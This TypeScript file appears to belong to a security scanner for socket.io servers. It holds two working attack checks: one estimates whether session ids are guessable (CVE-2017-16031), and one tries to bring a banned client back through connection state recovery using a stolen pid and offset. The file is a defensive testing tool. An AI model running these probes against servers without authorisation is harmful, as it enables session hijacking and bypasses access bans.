import { type Attack, GENERATIONS, NotApplicable } from '../attack.js';
import type { Target } from '../target.js';
import type { Wire } from '../wire.js';

const SAMPLES = 100;
/** Characters that take on so few values at one place tell nothing. */
const FEW = 12;
const ENOUGH_BITS = 120;

/** About who is who. */
export const IDENTITY_ATTACKS: readonly Attack[] = [
  {
    id: 'CVE-2017-16031',
    about: 'socket.io 0.9: session ids can be guessed',
    generations: GENERATIONS,
    async run(target, generation) {
      const ids: string[] = [];
      while (ids.length < SAMPLES) ids.push(await target.session(generation));
      if (new Set(ids).size < SAMPLES) return 'two sessions have one id';
      const bits = bitsOf(ids);
      if (bits < ENOUGH_BITS) return `${bits} bits of a session id change from one to the next`;
      if (generation !== 'eio4') return undefined;
      const wire = await target.join('eio4');
      const sids = wire.received.map((frame) => /"sid":"([^"]+)"/.exec(frame)?.[1]).filter(Boolean);
      wire.end();
      return sids[0] === sids[1] ? 'the public id is the secret one' : undefined;
    },
  },
  {
    id: 'socketio/socket.io#5491',
    about: 'socket.io: who comes back within the time of state recovery is not asked for anything',
    generations: ['eio4'],
    async run(target) {
      const wire = await joinGuarded(target);
      const [, pid] = /"pid":"([^"]+)"/.exec(await wire.until(/^40\/guarded,/)) ?? [];
      if (pid === undefined) throw new NotApplicable('no state recovery');
      wire.send('42/guarded,1["ban me"]');
      await wire.until(/^43\/guarded,1/);
      // An offset comes with the next event.
      wire.send('42/guarded,["tell me"]');
      const [, offset] = /"([^"]+)"\]$/.exec(await wire.until(/^42\/guarded,\["told"/)) ?? [];
      wire.end();
      await wire.closed;
      const again = await target.connect('eio4');
      await again.until(/^0\{/);
      again.send(`40/guarded,${JSON.stringify({ token: 'mallory', pid, offset })}`);
      const answer = await again.until(/^4[04]\/guarded,/);
      again.end();
      return answer.startsWith('40') ? 'a banned client is back' : undefined;
    },
  },
];

async function joinGuarded(target: Target): Promise<Wire> {
  const wire = await target.connect('eio4');
  await wire.until(/^0\{/);
  wire.send('40/guarded,{"token":"mallory"}');
  const answer = await wire.until(/^4[04]\/guarded,/);
  if (answer.startsWith('44')) throw new NotApplicable('no namespace /guarded as the README describes it');
  return wire;
}

/** How many bits of such ids an attacker has to guess, as far as samples tell. */
function bitsOf(ids: readonly string[]): number {
  const length = Math.min(...ids.map((id) => id.length));
  const alphabet = new Set(ids.join('')).size;
  let places = 0;
  for (let i = 0; i < length; i++) if (new Set(ids.map((id) => id[i])).size >= Math.min(FEW, alphabet)) places++;
  // A hundred samples seldom show all of 64 characters.
  return Math.round(places * Math.log2(alphabet > 40 ? 64 : alphabet));
}
